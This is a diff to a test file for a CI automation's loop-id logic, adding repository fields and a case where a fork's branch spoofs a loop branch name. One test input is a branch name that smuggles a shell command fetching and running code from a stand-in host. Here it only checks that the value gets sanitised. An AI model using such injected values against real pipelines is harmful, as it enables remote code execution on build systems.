@@ -191,17 +191,36 @@ describe('loop id', () => {
       name: "a review on a loop's own pull request",
       event: {
         eventName: 'pull_request_review',
-        payload: { pull_request: { number: 57, head: { ref: 'loop/issue-42' } } },
+        payload: {
+          pull_request: { number: 57, head: { ref: 'loop/issue-42', repo: { full_name: 'acme/demo' } } },
+          repository: { full_name: 'acme/demo' },
+        },
         runId: 1,
       },
       loopId: 'issue-42',
       source: 'pull-request',
     },
     {
+      name: "a fork's pull request whose branch is named like a loop's",
+      event: {
+        eventName: 'pull_request_review',
+        payload: {
+          pull_request: { number: 58, head: { ref: 'loop/issue-42', repo: { full_name: 'mallory/demo' } } },
+          repository: { full_name: 'acme/demo' },
+        },
+        runId: 1,
+      },
+      loopId: 'pr-58',
+      source: 'pull-request',
+    },
+    {
       name: 'a branch name with shell metacharacters',
       event: {
         eventName: 'pull_request',
-        payload: { pull_request: { number: 5, head: { ref: 'loop/$(curl evil|sh);`id`' } } },
+        payload: {
+          pull_request: { number: 5, head: { ref: 'loop/$(curl evil|sh);`id`', repo: { full_name: 'acme/demo' } } },
+          repository: { full_name: 'acme/demo' },
+        },
         runId: 1,
       },
       loopId: 'curl-evil-sh-id',
